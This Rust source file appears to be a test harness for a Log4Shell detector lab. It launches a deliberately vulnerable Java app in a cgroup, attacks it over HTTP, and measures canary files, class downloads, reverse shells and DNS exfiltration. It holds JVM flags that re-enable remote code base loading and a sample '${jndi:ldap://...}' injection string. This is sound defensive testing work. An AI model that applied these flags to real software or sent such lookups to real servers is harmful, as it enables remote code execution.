//! One scenario in one column: a fresh cgroup, the detector on it (unless mode `none`), the
//! vulnerable app (started after the detector, or before it) attacked inside it, or the
//! benign program run there, and what the servers, the file system and the detector saw (and
//! what `detector replay` made of its recording), as an [`Observation`] for report.rs to
//! judge.

use std::{
    fs,
    io::{BufRead as _, BufReader, Read as _, Write as _},
    net::{Ipv4Addr, SocketAddr, TcpStream},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::mpsc,
    thread,
    time::{Duration, Instant},
};

use anyhow::{bail, Context as _, Result};
use serde_json::Value;

use testkit::{command_line, die_with_parent, servers::UdpServer, Cgroup, Detector, Launch};

use super::{
    scenarios::{
        Attack, Benign, Column, Kind, Lookup, Mode, Payload, Scenario, Start, Variant, CANARY,
        CLASS_PORT, LDAP_PORT, ORDINARY_NAMES, OWN_RESOLVER, PADDING, PENDING_RULES, REVSHELL_PORT,
        SECRET, WEB_PORT,
    },
    servers::{append_to, AppImage, Classes, EventLog},
};

/// The JVM flags of an unpatched JVM of late 2021, on JDK 17.0.15 (tests/lab/README.md,
/// "Why it is faithful"): the two `trustURLCodebase` properties are what make the JDK load
/// a factory class from a remote code base (LDAP references need the first, RMI references
/// both). The factory filters are `*` by default in 17.0.15, which knows only the global one;
/// they are set explicitly so that a later JDK 17 update with LDAP- and RMI-specific filters
/// behaves the same.
pub const VULNERABLE_JVM_FLAGS: [&str; 5] = [
    "-Dcom.sun.jndi.ldap.object.trustURLCodebase=true",
    "-Dcom.sun.jndi.rmi.object.trustURLCodebase=true",
    "-Djdk.jndi.object.factoriesFilter=*",
    "-Djdk.jndi.ldap.object.factoriesFilter=*",
    "-Djdk.jndi.rmi.object.factoriesFilter=*",
];

/// A service's PATH (systemd's default): the payloads find `curl`, `bash` and `python3`
/// where a server has them, not through a developer's shims.
const SERVICE_PATH: &str = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

/// The vulnerable app exits by itself after this long, in case the runner is gone.
const APP_LIFETIME_SECS: &str = "120";
/// How long the app may take to listen.
const APP_START_TIMEOUT: Duration = Duration::from_secs(30);
/// How long the app may take to answer the attack (its JNDI lookups time out after 3 s).
const REQUEST_TIMEOUT: Duration = Duration::from_secs(20);
/// How long an attack may take, after the app answered, to show its effect (canary, secret).
const PROOF_TIMEOUT: Duration = Duration::from_secs(10);
/// In enforce mode: how long to keep watching for an effect that must not come. The app
/// answers once its lookups are over, so the payload (which runs inside the lookup) would
/// already have run; the grace is for what a payload starts in the background.
const ENFORCE_GRACE: Duration = Duration::from_secs(1);
/// How long every expected alert may take to arrive.
const ALERT_TIMEOUT: Duration = Duration::from_secs(10);
/// Once the rules the detector already has arrived, how much longer to wait for the pending
/// ones (a pending rule that never comes would otherwise cost the whole ALERT_TIMEOUT).
const PENDING_GRACE: Duration = Duration::from_secs(3);
/// Listening on after the expected alerts, so a duplicate `exploit_chain` is seen.
const SETTLE: Duration = Duration::from_secs(1);
/// How long a benign program may run.
const PROGRAM_TIMEOUT: Duration = Duration::from_secs(30);

/// What the lab shares across scenarios.
#[derive(Debug)]
pub struct Lab<'a> {
    /// The run's scratch directory; each scenario run gets `runs/<mode>-<name>/` in it.
    pub dir: PathBuf,
    /// tests/lab
    pub sources: PathBuf,
    pub classes: &'a Classes,
    /// The app's jpackage image, when a scenario needs it.
    pub app_image: Option<&'a AppImage>,
    /// The own-resolver scenario's name server.
    pub own_resolver: &'a UdpServer,
    pub events: &'a EventLog,
    pub java: PathBuf,
    pub javac: PathBuf,
    pub python: PathBuf,
    /// The daemon binary, unless only mode `none` runs.
    pub detector: Option<PathBuf>,
    pub policy: PathBuf,
}

/// Everything one run saw.
#[derive(Debug, Default)]
pub struct Observation {
    /// The lab itself failed (a program did not start, a request was refused...).
    pub errors: Vec<String>,
    pub attack: Option<AttackFacts>,
    pub benign: Option<BenignFacts>,
    /// Every alert of the run; `None` in mode `none`.
    pub alerts: Option<Vec<Value>>,
    /// What `detector replay` printed for the run's recording (the replayed variant).
    pub replayed: Option<Vec<Value>>,
    /// The detector's stop went wrong, or it lost events.
    pub detector_problem: Option<String>,
    pub took: Duration,
    /// Where the run's logs are.
    pub dir: PathBuf,
}

#[derive(Debug, Default)]
pub struct AttackFacts {
    /// The payload's canary file appeared in the app's working directory.
    pub canary: bool,
    /// Connections accepted (queries received, for DNS) by the server the lookup targets.
    pub contacts: usize,
    /// Payload classes the class server handed out.
    pub class_downloads: usize,
    /// Reverse shells that called the listener.
    pub reverse_shells: usize,
    /// A DNS query carrying the secret reached the attacker's name server.
    pub secret_exfiltrated: bool,
    /// What the app's JNDI lookups returned (`jndi-ok ...`, `jndi-error ...`).
    pub lookups: Vec<String>,
}

impl AttackFacts {
    /// The attack did what it is for: the payload ran (and, for the reverse shell, called
    /// back), or the secret reached the attacker's name server.
    pub fn achieved(&self, attack: &Attack) -> bool {
        match attack.payload {
            None => self.secret_exfiltrated,
            Some(Payload::ReverseShell) => self.canary && self.reverse_shells > 0,
            Some(_) => self.canary,
        }
    }

    /// Any step of the attack reached the attacker, or the payload ran.
    pub fn got_anywhere(&self) -> bool {
        self.canary
            || self.contacts > 0
            || self.class_downloads > 0
            || self.reverse_shells > 0
            || self.secret_exfiltrated
    }
}

#[derive(Debug, Default)]
pub struct BenignFacts {
    /// The program's exit code, or why there is none.
    pub exit: Option<i32>,
    /// The program did what it is for (its server saw it, its file appeared).
    pub worked: bool,
    /// What "worked" means for it, for messages.
    pub effect: &'static str,
    /// The end of its output.
    pub output: String,
}

/// A victim that starts before the detector, started ahead of its run: its cgroup, and the
/// app listening in it. The runner starts the next run's while the current one runs, so the
/// JVM's start-up costs no time of its own.
#[derive(Debug)]
pub struct Early {
    cgroup: Cgroup,
    app: Starting,
}

/// Starts the victim of `scenario` in `column` now, if it is one that predates its detector.
pub fn start_early(lab: &Lab<'_>, scenario: &Scenario, column: Column) -> Option<Result<Early>> {
    let Kind::Attack(attack) = &scenario.kind else {
        return None;
    };
    if column.start != Start::Before {
        return None;
    }
    let dir = run_dir(lab, scenario, column);
    let start = || {
        fs::create_dir_all(&dir).with_context(|| format!("creating {}", dir.display()))?;
        let cgroup = Cgroup::create(&cgroup_name(scenario, column))?;
        let app = spawn_app(lab, &dir, &cgroup, attack)?;
        Ok(Early { cgroup, app })
    };
    Some(start())
}

fn run_dir(lab: &Lab<'_>, scenario: &Scenario, column: Column) -> PathBuf {
    lab.dir
        .join("runs")
        .join(format!("{}-{}", column.slug(), scenario.name))
}

fn cgroup_name(scenario: &Scenario, column: Column) -> String {
    format!("lab-{}-{}", column.slug(), scenario.name)
}

/// Runs `scenario` in `column`, with its victim started ahead if `early` has it. Never
/// fails: whatever goes wrong is in the observation.
pub fn run(
    lab: &Lab<'_>,
    scenario: &Scenario,
    column: Column,
    early: Option<Result<Early>>,
) -> Observation {
    let started = Instant::now();
    let dir = run_dir(lab, scenario, column);
    let mut obs = Observation {
        dir: dir.clone(),
        ..Observation::default()
    };
    if let Err(err) = run_in(lab, scenario, column, early, &dir, &mut obs) {
        obs.errors.push(format!("{err:#}"));
    }
    obs.took = started.elapsed();
    obs
}

fn run_in(
    lab: &Lab<'_>,
    scenario: &Scenario,
    column: Column,
    early: Option<Result<Early>>,
    dir: &Path,
    obs: &mut Observation,
) -> Result<()> {
    let attack = match &scenario.kind {
        Kind::Attack(attack) => Some(attack),
        Kind::Benign(_) => None,
    };
    // A victim started before the detector: the detector finds it in /proc.
    let (cgroup, early_app) = match early.or_else(|| start_early(lab, scenario, column)) {
        Some(early) => {
            let Early { cgroup, app } = early?;
            (cgroup, Some(app.listening()?))
        }
        None => {
            fs::create_dir_all(dir).with_context(|| format!("creating {}", dir.display()))?;
            (Cgroup::create(&cgroup_name(scenario, column))?, None)
        }
    };
    let mut children = Vec::new();
    let recording = attack
        .filter(|a| a.variant == Variant::Replayed)
        .map(|_| dir.join("recording.jsonl"));
    let detector = match (column.mode, &lab.detector) {
        (None, _) => None,
        (Some(mode), Some(bin)) => {
            let mut launch = Launch::new(bin, mode)
                .config(&lab.policy)
                .cgroup(cgroup.path())
                .log_to(dir)
                .die_with_parent();
            if let Some(file) = &recording {
                launch = launch.args([std::ffi::OsStr::new("--record"), file.as_os_str()]);
            }
            Some(launch.start()?)
        }
        (Some(mode), None) => bail!("mode {mode} needs the detector binary"),
    };
    let run = Run {
        lab,
        mode: column.mode,
        dir,
        cgroup: &cgroup,
        detector: detector.as_ref(),
        mark: lab.events.mark(),
    };

    let result = match (&scenario.kind, early_app) {
        (Kind::Attack(attack), early) => {
            let app = match early {
                Some(app) => Ok(app),
                None => start_app(lab, dir, &cgroup, attack),
            };
            app.and_then(|app| attack_app(&run, attack, app, &mut children))
                .map(|facts| obs.attack = Some(facts))
        }
        (Kind::Benign(benign), _) => run_benign(&run, *benign).map(|facts| {
            if detector.is_some() {
                // Whatever a benign program raises arrives within a moment of it.
                thread::sleep(SETTLE + SETTLE / 2);
            }
            obs.benign = Some(facts);
        }),
    };

    if let Some(mut detector) = detector {
        obs.alerts = Some(detector.alerts());
        match detector.stop() {
            Ok(stats) => {
                let lost = stats.losses();
                if !lost.is_empty() {
                    obs.detector_problem =
                        Some(format!("the detector lost events: {}", lost.join(" ")));
                }
            }
            Err(err) => obs.detector_problem = Some(format!("{err:#}")),
        }
        if let (Some(file), Some(bin)) = (&recording, &lab.detector) {
            match replay(bin, file, &lab.policy, dir) {
                Ok(alerts) => obs.replayed = Some(alerts),
                Err(err) => obs.errors.push(format!("{err:#}")),
            }
        }
    }
    drop(cgroup);
    for mut child in children {
        let _ = child.kill();
        let _ = child.wait();
    }
    result
}

/// `detector replay FILE --config POLICY`: the alerts it prints (also in `replay.log`).
fn replay(bin: &Path, recording: &Path, policy: &Path, dir: &Path) -> Result<Vec<Value>> {
    let mut cmd = Command::new(bin);
    cmd.arg("replay").arg(recording).arg("--config").arg(policy);
    let line = command_line(&cmd);
    let output = cmd
        .stdin(Stdio::null())
        .output()
        .with_context(|| format!("starting `{line}`"))?;
    let stdout = String::from_utf8_lossy(&output.stdout);
    let log = dir.join("replay.log");
    fs::write(
        &log,
        format!(
            "$ {line}\n{stdout}{}",
            String::from_utf8_lossy(&output.stderr)
        ),
    )
    .with_context(|| format!("writing {}", log.display()))?;
    if !output.status.success() {
        bail!("`{line}` failed ({}); see {}", output.status, log.display());
    }
    stdout
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            serde_json::from_str(l)
                .with_context(|| format!("replay printed a line that is no alert: {l:?}"))
        })
        .collect()
}

/// One scenario run in progress.
#[derive(Debug)]
struct Run<'a> {
    lab: &'a Lab<'a>,
    mode: Option<Mode>,
    /// Its directory: logs, and the vulnerable app's working directory.
    dir: &'a Path,
    cgroup: &'a Cgroup,
    detector: Option<&'a Detector>,
    /// Server events from here on are this run's.
    mark: usize,
}

// === attacks ===

/// The vulnerable app, listening.
#[derive(Debug)]
struct App {
    child: Child,
    port: u16,
    /// Its stdout lines as they come.
    lines: mpsc::Receiver<String>,
}

fn attack_app(
    run: &Run<'_>,
    attack: &Attack,
    app: App,
    children: &mut Vec<Child>,
) -> Result<AttackFacts> {
    let Run {
        lab,
        mode,
        dir,
        mark,
        ..
    } = *run;
    let App {
        child,
        port,
        lines: notes,
    } = app;
    children.push(child);

    send_attack(port, attack)?;
    let mut facts = AttackFacts::default();

    let observe = |facts: &mut AttackFacts| {
        facts.canary = dir.join(CANARY).exists();
        facts.contacts = lab.events.count(
            mark,
            &attack.lookup.server(),
            attack.lookup.contact_kind(),
            |_| true,
        );
        facts.class_downloads =
            lab.events
                .count(mark, &format!("class:{CLASS_PORT}"), "get", |d| {
                    d.contains(".class 200")
                });
        facts.reverse_shells =
            lab.events
                .count(mark, &format!("revshell:{REVSHELL_PORT}"), "accept", |_| {
                    true
                });
        let secret = SECRET.to_ascii_lowercase();
        facts.secret_exfiltrated = attack.lookup == Lookup::Dns
            && lab
                .events
                .count(mark, &attack.lookup.server(), "query", |d| {
                    d.contains(&secret)
                })
                > 0;
    };

    let deadline = Instant::now()
        + match mode {
            Some(Mode::Enforce) => ENFORCE_GRACE,
            None | Some(Mode::Monitor) => PROOF_TIMEOUT,
        };
    loop {
        observe(&mut facts);
        let done = match mode {
            Some(Mode::Enforce) => facts.got_anywhere(),
            None | Some(Mode::Monitor) => facts.achieved(attack),
        };
        if done || Instant::now() >= deadline {
            break;
        }
        lab.events.wait_change(Duration::from_millis(100));
    }

    if let (Some(Mode::Monitor), Some(detector)) = (mode, run.detector) {
        wait_for_rules(detector, &attack.expected_rules());
        thread::sleep(SETTLE);
    }
    observe(&mut facts);
    facts.lookups = jndi_errors(&notes.try_iter().collect::<Vec<_>>());
    Ok(facts)
}

/// Waits until every expected rule has an alert, at most [`ALERT_TIMEOUT`]; once only
/// pending rules are missing, at most [`PENDING_GRACE`] more.
fn wait_for_rules(detector: &Detector, expected: &[&'static str]) {
    let started = Instant::now();
    let mut settled_at: Option<Instant> = None;
    while started.elapsed() < ALERT_TIMEOUT {
        let alerts = detector.alerts();
        let missing: Vec<&str> = expected
            .iter()
            .copied()
            .filter(|rule| !alerts.iter().any(|a| rule_of(a) == Some(rule)))
            .collect();
        if missing.is_empty() {
            return;
        }
        if missing.iter().all(|rule| PENDING_RULES.contains(rule)) {
            let since = *settled_at.get_or_insert_with(Instant::now);
            if since.elapsed() >= PENDING_GRACE {
                return;
            }
        }
        detector.wait_change(Duration::from_millis(200));
    }
}

/// What log4j says of each failed JNDI lookup, from its status lines
/// (`… WARN Error looking up JNDI resource [URL]. EXCEPTION`): `jndi-error URL: EXCEPTION`.
/// An RMI exception names its cause on the next line (`…; nested exception is:`).
fn jndi_errors(lines: &[String]) -> Vec<String> {
    let mut errors = Vec::new();
    for (i, line) in lines.iter().enumerate() {
        let Some((_, rest)) = line.split_once("Error looking up JNDI resource [") else {
            continue;
        };
        let (url, exception) = rest.split_once("]. ").unwrap_or((rest, ""));
        let mut error = format!("jndi-error {url}: {}", exception.trim_end());
        if error.ends_with("nested exception is:") {
            if let Some(cause) = lines.get(i + 1) {
                error = format!("{error} {}", cause.trim());
            }
        }
        errors.push(error);
    }
    errors
}

pub fn rule_of(alert: &Value) -> Option<&str> {
    alert.get("rule").and_then(Value::as_str)
}

/// Starts `VulnerableApp` in the cgroup (with `java`, or through its jpackage launcher) and
/// waits until it listens; its stdout also goes to `app.log`.
fn start_app(lab: &Lab<'_>, dir: &Path, cgroup: &Cgroup, attack: &Attack) -> Result<App> {
    spawn_app(lab, dir, cgroup, attack)?.listening()
}

/// The vulnerable app, started, perhaps not listening yet.
#[derive(Debug)]
struct Starting {
    child: Child,
    lines: mpsc::Receiver<String>,
    log_path: PathBuf,
}

/// Starts `VulnerableApp` in the cgroup (with `java`, or through its jpackage launcher);
/// its stdout also goes to `app.log`.
fn spawn_app(lab: &Lab<'_>, dir: &Path, cgroup: &Cgroup, attack: &Attack) -> Result<Starting> {
    let mut cmd = if attack.variant == Variant::Jpackage {
        let image = lab
            .app_image
            .context("the jpackage app image was not built")?;
        // The launcher passes the image's JVM options (the same flags) itself.
        Command::new(&image.launcher)
    } else {
        let mut cmd = Command::new(&lab.java);
        cmd.args(VULNERABLE_JVM_FLAGS)
            .arg("-cp")
            .arg(&lab.classes.app_classpath)
            .arg("VulnerableApp");
        cmd
    };
    cmd.args(["0", "--lifetime", APP_LIFETIME_SECS]);
    service_env(&mut cmd, dir);
    cmd.env("SECRET", SECRET);
    let log_path = dir.join("app.log");
    let mut log = append_to(&log_path)?;
    let _ = writeln!(log, "$ {}", command_line(&cmd));
    cmd.stdout(Stdio::piped())
        .stderr(Stdio::from(log.try_clone()?));
    cgroup.enter_before_exec(&mut cmd);
    let mut child = cmd.spawn().context("starting the vulnerable app")?;
    let stdout = child
        .stdout
        .take()
        .context("the app's stdout is not piped")?;
    let (tx, rx) = mpsc::channel();
    thread::spawn(move || {
        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
            let _ = writeln!(log, "{line}");
            let _ = tx.send(line);
        }
    });
    Ok(Starting {
        child,
        lines: rx,
        log_path,
    })
}

impl Starting {
    /// Waits until the app listens.
    fn listening(self) -> Result<App> {
        let Starting {
            mut child,
            lines,
            log_path,
        } = self;
        let deadline = Instant::now() + APP_START_TIMEOUT;
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            match lines.recv_timeout(left) {
                Ok(line) => {
                    if let Some(addr) = line.strip_prefix("NOTE listening 127.0.0.1:") {
                        let port = addr.trim().parse().context("the app's port")?;
                        return Ok(App { child, port, lines });
                    }
                }
                Err(_) => {
                    let _ = child.kill();
                    let _ = child.wait();
                    bail!(
                        "the vulnerable app did not listen within {}s; see {}",
                        APP_START_TIMEOUT.as_secs(),
                        log_path.display()
                    );
                }
            }
        }
    }
}

/// What the attacker does: one HTTP request, answered 200 once the app has logged it.
fn send_attack(port: u16, attack: &Attack) -> Result<()> {
    let mut request = format!(
        "GET {} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nAccept: */*\r\n",
        attack.target
    );
    if attack.variant == Variant::Padded {
        request.push_str(&padding(PADDING));
    }
    match attack.header {
        Some((name, value)) => request.push_str(&format!("{name}: {value}\r\n")),
        None => request.push_str("User-Agent: Mozilla/5.0 (lab)\r\n"),
    }
    request.push_str("Connection: close\r\n\r\n");
    let addr = SocketAddr::from((Ipv4Addr::LOCALHOST, port));
    let mut stream = TcpStream::connect_timeout(&addr, Duration::from_secs(5))
        .with_context(|| format!("connecting to the vulnerable app at {addr}"))?;
    stream.set_read_timeout(Some(REQUEST_TIMEOUT))?;
    stream
        .write_all(request.as_bytes())
        .context("sending the attack")?;
    let mut answer = Vec::new();
    stream
        .read_to_end(&mut answer)
        .context("reading the app's answer")?;
    let answer = String::from_utf8_lossy(&answer);
    let status = answer.lines().next().unwrap_or_default().to_owned();
    if !status.contains(" 200 ") && !status.ends_with(" 200") {
        bail!("the vulnerable app answered {status:?}, not 200");
    }
    Ok(())
}

/// About `bytes` of ordinary headers, as big cookies and tracing headers make them: 1 KiB
/// `X-Pad-N` lines.
fn padding(bytes: usize) -> String {
    let mut headers = String::new();
    let mut n = 0;
    while headers.len() < bytes {
        let name = format!("X-Pad-{n:02}: ");
        let value = "a".repeat(1024 - name.len() - 2);
        headers.push_str(&format!("{name}{value}\r\n"));
        n += 1;
    }
    headers
}

/// A clean service environment: nothing of the runner's (no pyenv shims, no CI variables);
/// the program dies with the runner.
fn service_env(cmd: &mut Command, dir: &Path) {
    die_with_parent(cmd);
    cmd.env_clear()
        .env("PATH", SERVICE_PATH)
        .env("LANG", "C.UTF-8")
        .env("HOME", dir)
        .current_dir(dir)
        .stdin(Stdio::null());
}

// === benign programs ===

/// `java` run in a mount namespace of its own whose /etc/resolv.conf names [`OWN_RESOLVER`]
/// (a container's or a pod's); `unshare` and `sh` exec in place, so the JVM is the process
/// started.
fn own_namespace(dir: &Path, java: &Command) -> Result<Command> {
    let resolv = dir.join("resolv.conf");
    fs::write(&resolv, format!("nameserver {OWN_RESOLVER}\n"))
        .with_context(|| format!("writing {}", resolv.display()))?;
    let mut cmd = Command::new("unshare");
    cmd.args(["--mount", "--propagation", "private", "sh", "-c"])
        .arg("mount --bind \"$0\" /etc/resolv.conf && exec \"$@\"")
        .arg(&resolv)
        .arg(java.get_program())
        .args(java.get_args());
    Ok(cmd)
}

fn run_benign(run: &Run<'_>, benign: Benign) -> Result<BenignFacts> {
    let Run { lab, dir, mark, .. } = *run;
    let java = |class: &str| {
        let mut cmd = Command::new(&lab.java);
        cmd.arg("-cp").arg(&lab.classes.benign).arg(class);
        cmd
    };
    let (mut cmd, effect) = match benign {
        Benign::HttpClient => {
            let mut cmd = java("LabHttpClient");
            cmd.arg(format!("http://127.0.0.1:{WEB_PORT}/"));
            (cmd, "the local web service got its GET")
        }
        Benign::Directory => {
            let mut cmd = java("LabDirectoryClient");
            cmd.arg(format!("ldap://127.0.0.1:{LDAP_PORT}"));
            (cmd, "the directory answered its search with a plain entry")
        }
        Benign::Javac => {
            let mut cmd = Command::new(&lab.javac);
            cmd.arg("-d")
                .arg(dir.join("out"))
                .arg(lab.sources.join("java/benign/Greeting.java"));
            (cmd, "Greeting.class was written")
        }
        Benign::Helper => (java("LabHelperRunner"), "the helper wrote helper-out"),
        Benign::OwnResolver => (
            own_namespace(dir, java("LabResolverClient").args(ORDINARY_NAMES))?,
            "its own resolver got its queries",
        ),
        Benign::PythonLdapShell => {
            let mut cmd = Command::new(&lab.python);
            cmd.arg(lab.sources.join("python/ldap_and_shell.py"))
                .arg("127.0.0.1")
                .arg(LDAP_PORT.to_string());
            (
                cmd,
                "the directory answered its search and sh ran (\"sh ok\")",
            )
        }
    };
    service_env(&mut cmd, dir);
    let log_path = dir.join("program.log");
    let mut log = append_to(&log_path)?;
    let _ = writeln!(log, "$ {}", command_line(&cmd));
    cmd.stdout(Stdio::from(log.try_clone()?))
        .stderr(Stdio::from(log.try_clone()?));
    run.cgroup.enter_before_exec(&mut cmd);
    let mut child = cmd.spawn().context("starting the benign program")?;

    let deadline = Instant::now() + PROGRAM_TIMEOUT;
    let exit = loop {
        if let Some(status) = child.try_wait().context("waiting for the program")? {
            break status.code();
        }
        if Instant::now() >= deadline {
            let _ = child.kill();
            let _ = child.wait();
            bail!(
                "the benign program was still running after {}s; see {}",
                PROGRAM_TIMEOUT.as_secs(),
                log_path.display()
            );
        }
        thread::sleep(Duration::from_millis(20));
    };
    let output = fs::read_to_string(&log_path).unwrap_or_default();
    let entry_searches = || {
        lab.events
            .count(mark, &format!("ldap:{LDAP_PORT}"), "search", |d| {
                d.ends_with("answer=entry")
            })
    };
    let worked = exit == Some(0)
        && match benign {
            Benign::HttpClient => {
                lab.events
                    .count(mark, &format!("web:{WEB_PORT}"), "get", |_| true)
                    > 0
            }
            Benign::Directory => entry_searches() > 0,
            Benign::Javac => dir.join("out/Greeting.class").is_file(),
            Benign::Helper => fs::read_to_string(dir.join("helper-out"))
                .is_ok_and(|text| text.trim() == "helper-ok"),
            Benign::PythonLdapShell => entry_searches() > 0 && output.contains("sh ok"),
            Benign::OwnResolver => {
                let asked = lab.own_resolver.dns_names();
                ORDINARY_NAMES.iter().all(|n| asked.iter().any(|a| a == n))
            }
        };
    let tail: Vec<&str> = output.lines().rev().take(6).collect();
    Ok(BenignFacts {
        exit,
        worked,
        effect,
        output: tail.into_iter().rev().collect::<Vec<_>>().join(" | "),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn log4j_status_lines_say_why_a_lookup_failed() {
        let lines: Vec<String> = [
            "LOG User-Agent: ${jndi:ldap://127.0.0.1:1389/LabShell}",
            "2026-12-06 02:11:13,307 HTTP-Dispatcher WARN Error looking up JNDI resource \
             [ldap://127.0.0.1:1389/LabShell]. javax.naming.CommunicationException: \
             127.0.0.1:1389 [Root exception is java.net.SocketException: Operation not permitted]",
            "\tat java.naming/com.sun.jndi.ldap.Connection.<init>(Connection.java:251)",
            "2026-12-06 02:11:13,307 HTTP-Dispatcher WARN Error looking up JNDI resource \
             [rmi://127.0.0.1:1099/LabShell]. javax.naming.CommunicationException [Root \
             exception is java.rmi.ConnectIOException: Exception creating connection to: \
             127.0.0.1; nested exception is: ",
            "\tjava.net.SocketException: Operation not permitted]",
        ]
        .map(str::to_owned)
        .to_vec();
        let errors = jndi_errors(&lines);
        assert_eq!(errors.len(), 2, "{errors:?}");
        assert!(errors[0].starts_with("jndi-error ldap://127.0.0.1:1389/LabShell: javax"));
        assert!(
            errors.iter().all(|e| e.contains("Operation not permitted")),
            "{errors:?}"
        );
    }
}
